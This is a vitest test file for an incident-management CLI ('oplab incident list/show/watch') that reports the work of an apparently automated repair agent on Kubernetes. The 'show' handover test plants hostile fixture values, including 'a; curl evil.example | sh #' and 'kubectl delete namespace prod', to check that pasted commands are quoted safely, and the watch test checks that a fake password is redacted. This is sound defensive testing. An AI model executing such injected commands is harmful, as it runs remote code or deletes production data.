// The commands `oplab incident list`, `show` and `watch`.

import { describe, expect, it } from 'vitest';
import {
  agent,
  attempt,
  condition,
  gateway,
  incident,
  limits,
  time,
  uid,
  usage,
  useCli,
} from '../../test/support/cli-harness.ts';
import { openedEntry, outcomeEntry, sealEntry } from '../audit/lifecycle.ts';
import { displayWidth } from './table.ts';

const cli = useCli();

describe('incident list', () => {
  it('shows phase, claim, verification, cost and age in columns', async () => {
    cli.cluster = [
      incident({
        phase: 'Resolved',
        attempts: [attempt],
        limits,
        usage,
        claim: { attempt: 1, outcome: 'Fixed', summary: '', rootCause: '', actions: [], time },
        conditions: [condition('Verified', 'True', 'ChecksHeld')],
      }),
    ];
    await cli.oplab('incident', 'list', '-n', 'tikv');
    const [header = '', row = ''] = cli.stdout.split('\n');
    expect(header.split(/\s+/)).toEqual([
      'NAME',
      'PHASE',
      'SEVERITY',
      'ATTEMPT',
      'CLAIM',
      'VERIFIED',
      'COST',
      'AGE',
      'SUMMARY',
    ]);
    expect(row.split(/\s{2,}/).slice(0, 8)).toEqual([
      'store-down',
      'Resolved',
      'critical',
      '1/2',
      'Fixed',
      'True',
      '$0.012',
      '5m',
    ]);
  });

  it('reports on stderr that there are no Incidents, and keeps stdout clean', async () => {
    await cli.oplab('incident', 'list', '-n', 'tikv');
    expect(cli.stdout).toBe('');
    expect(cli.stderr).toContain('No Incidents found in namespace tikv');
  });

  it('names an Incident that cannot be read, and shows the others', async () => {
    const strange = { ...incident({}), metadata: { namespace: 'tikv', name: 'strange' }, spec: { summary: 7 } };
    cli.cluster = [strange, incident({})];
    await cli.oplab('incident', 'list', '-n', 'tikv');
    expect(cli.stderr).toContain('cannot read Incident tikv/strange: spec.summary');
    expect(cli.stdout).toContain('store-down');
    expect(cli.stdout).not.toContain('strange');
    expect(process.exitCode).toBe(1);
  });

  it('prints a List of the unchanged objects as JSON', async () => {
    cli.cluster = [incident({}), incident({}, 'other')];
    await cli.oplab('incident', 'list', '-A', '-o', 'json');
    expect(JSON.parse(cli.stdout)).toMatchObject({
      kind: 'List',
      items: [{ metadata: { name: 'store-down' } }, { metadata: { name: 'other' } }],
    });
  });
});

describe('incident show', () => {
  it('prints claim, checks with observed values, usage and the end of the trail, in 80 columns', async () => {
    const long = 'a sentence that goes on and on '.repeat(8);
    cli.cluster = [
      incident({
        phase: 'Verifying',
        message: long,
        attempts: [attempt],
        limits,
        usage,
        conditions: [condition('RepairClaimed', 'True', 'Fixed', long), condition('Verified', 'False', 'Soaking')],
        claim: { attempt: 1, outcome: 'Fixed', summary: long, rootCause: 'scaled down', actions: ['scaled up'], time },
        verification: [
          {
            name: 'stores-up',
            passing: false,
            observed: 'body.count = 2',
            baseline: 'body.count = 1',
            observedTime: time,
          },
        ],
        soak: { restarts: 2 },
        audit: {
          sessionID: uid,
          entries: 31,
          headHash: 'abc123',
          tail: [{ seq: 31, time, kind: 'tool_call', tool: 'shell', text: `kubectl get pods ${long}` }],
        },
      }),
    ];
    await cli.oplab('incident', 'show', 'tikv/store-down');
    for (const line of cli.stdout.split('\n')) expect(displayWidth(line), line).toBeLessThanOrEqual(80);
    for (const text of [
      '✗ stores-up: does not hold',
      'observed: body.count = 2',
      'before: body.count = 1',
      'restarted 2 times',
      'Root cause: scaled down',
      '- scaled up',
      'turns 7 of 60',
      '$0.012 of $2.000',
      '31 entries, not sealed',
      'tool_call shell',
      'kubectl get pods',
      'RepairClaimed',
    ]) {
      expect(cli.stdout).toContain(text);
    }
  });

  it('prints the hand-over of an escalated Incident, with commands that can be pasted', async () => {
    const path = `/api/v1/namespaces/tikv/services/tikv-pd:2379/proxy/pd/api/v1/stores?${'x'.repeat(60)}  y`;
    const change = { attempt: 1, seq: 12, plane: 'kubernetes', text: 'patch apps/statefulsets tikv/tikv-tikv' };
    cli.cluster = [
      incident(
        {
          phase: 'Escalated',
          handover: {
            summary: 'a store is down\nfailing when last looked at:\n- stores-up: body.count = 2',
            attempts: ['attempt 1 (60 s): ChecksFailed'],
            changes: ['patch apps/statefulsets tikv/tikv-tikv (attempt 1, entry 12)'],
            nextSteps: [
              {
                what: 'stores-up must hold ("ready: kubectl delete namespace prod #" != "")',
                command: ['kubectl', 'get', '--raw', path],
              },
              { what: 'events in a', command: ['kubectl', 'get', 'events', '-n', 'a; curl evil.example | sh #'] },
              { what: 'a\n      kubectl delete namespace prod', command: ['kubectl', 'get', 'a\nb'] },
              { what: 'create the Incident anew' },
            ],
          },
          changes: { count: 3, last: [change] },
          verification: [
            { name: 'baseline', passing: false, observed: 'StatefulSet tikv/x is gone', observedTime: time },
          ],
          alarm: { state: 'Firing', occurrences: 7, firstSeen: time, lastSeen: time, flaps: 2 },
          notifications: [{ receiver: 'on-call', event: 'Escalated', state: 'Sent', tries: 2, time }],
        },
        'store-down',
        {
          source: { kind: 'Monitor', name: 'stores', fingerprint: 'f', startTime: time },
          verify: { checks: [{ name: 'stores-up', http: { service: 's', port: 1, cel: 'true' } }] },
        },
      ),
    ];
    await cli.oplab('incident', 'show', 'tikv/store-down');
    const lines = cli.stdout.split('\n').map((line) => line.trim());
    expect(lines.filter((line) => line.startsWith('kubectl'))).toEqual([
      `kubectl get --raw '${path}'`,
      "kubectl get events -n 'a; curl evil.example | sh #'",
    ]);
    for (const line of [
      '- stores-up: body.count = 2',
      '- stores-up must hold ("ready: kubectl delete namespace prod #" != ""):',
      '- events in a:',
      '- a kubectl delete namespace prod',
      '- create the Incident anew',
      '3 in all, the last 1:',
      '✗ baseline: does not hold',
      '? stores-up: not checked yet',
      'Monitor stores, since 2026-01-01 00:06:00 UTC',
      'Firing, seen 7 times, last 4m ago, came back 2 times',
      'Escalated to on-call: Sent, 2026-01-01 00:06:00 UTC, 2 tries',
    ]) {
      expect(lines).toContain(line);
    }
  });

  it('fails with exit code 3 for a name that does not exist', async () => {
    await expect(cli.oplab('incident', 'show', 'nope', '-n', 'tikv')).rejects.toMatchObject({
      code: 'OPLAB_NOT_FOUND',
      exitCode: 3,
    });
  });
});

describe('incident watch', () => {
  const seen = (text: string) => async () => {
    const deadline = Date.now() + 10_000;
    while (!cli.stdout.includes(text)) {
      if (Date.now() > deadline) throw new Error(`"${text}" was not printed; there is:\n${cli.stdout}\n${cli.stderr}`);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  };

  it('streams entries and live output, survives a restart of the gateway, and ends with the Incident', async () => {
    cli.cluster = [incident({ phase: 'Running' })];
    const watching = cli.oplab('incident', 'watch', 'store-down', '-n', 'tikv');
    await cli.log.append(
      gateway,
      openedEntry({ namespace: 'tikv', name: 'store-down', uid }, 'TiKV store 4 is Disconnected'),
    );
    await cli.log.append(agent, {
      clientKey: '1-1',
      kind: 'tool_call',
      tool: 'shell',
      params: { command: 'sleep 5; echo hello' },
      content: 'why not',
    });
    await seen('$ sleep 5; echo hello')();
    cli.live.publish(uid, { callKey: '1-1', stream: 'stdout', text: 'hel' });
    cli.live.publish(uid, { callKey: '1-1', stream: 'stdout', text: 'lo \u001b[2Jworld\npassword=hunter22\n' });
    await seen('| hello world')();

    await cli.stopGateway();
    await cli.log.append(agent, {
      clientKey: '1-2',
      kind: 'tool_result',
      tool: 'shell',
      exitCode: 0,
      durationMs: 5,
      content: 'said hello',
    });
    await new Promise((resolve) => setTimeout(resolve, 150));
    await cli.startGateway();
    await seen('said hello')();

    await cli.log.append(gateway, outcomeEntry('Resolved', ''));
    await cli.log.seal(gateway, sealEntry('Resolved'));
    cli.cluster = [
      incident({
        phase: 'Resolved',
        usage,
        conditions: [
          condition('Finished', 'True', 'Resolved'),
          condition('Succeeded', 'True', 'Verified'),
          condition('Verified', 'True', 'ChecksHeld'),
        ],
      }),
    ];
    await watching;
    expect(cli.stderr).toContain('waiting: ');
    expect(cli.stdout).not.toContain('hunter22');
    // Each entry once, in spite of the restart.
    const numbers = [...cli.stdout.matchAll(/^ {3}(\d) {2}/gm)].map((match) => Number(match[1]));
    expect(numbers).toEqual([1, 2, 3, 4, 5]);
    expect(cli.stdout.trim().split('\n').at(-1)).toMatch(/^✓ tikv\/store-down Resolved .*verified, 7 turns, \$0\.012/);
    expect(process.exitCode).toBeUndefined();
  });

  it('waits for a session that does not exist yet, and exits with 1 if the Incident did not succeed', async () => {
    cli.cluster = [incident({ phase: 'Pending', message: 'waiting for Incident tikv/other' })];
    const watching = cli.oplab('incident', 'watch', 'tikv/store-down');
    await seen('waiting for Incident tikv/other')();
    await cli.log.append(gateway, openedEntry({ namespace: 'tikv', name: 'store-down', uid }, 'x'));
    await seen('lifecycle')();
    await cli.log.seal(gateway, sealEntry('Escalated'));
    cli.cluster = [
      incident({
        phase: 'Escalated',
        conditions: [condition('Finished', 'True', 'Escalated'), condition('Succeeded', 'False', 'AttemptsSpent')],
      }),
    ];
    await watching;
    expect(cli.stdout).toMatch(/✗ tikv\/store-down Escalated/);
    expect(process.exitCode).toBe(1);
  });

  it('ends when the Incident is deleted', async () => {
    cli.cluster = [incident({ phase: 'Running' })];
    await cli.log.append(gateway, openedEntry({ namespace: 'tikv', name: 'store-down', uid }, 'x'));
    const watching = cli.oplab('incident', 'watch', 'tikv/store-down');
    await seen('lifecycle')();
    cli.cluster = [];
    await cli.log.seal(gateway, sealEntry('Deleted'));
    await watching;
    expect(cli.stdout).toContain('was deleted');
    expect(process.exitCode).toBe(1);
  });
});
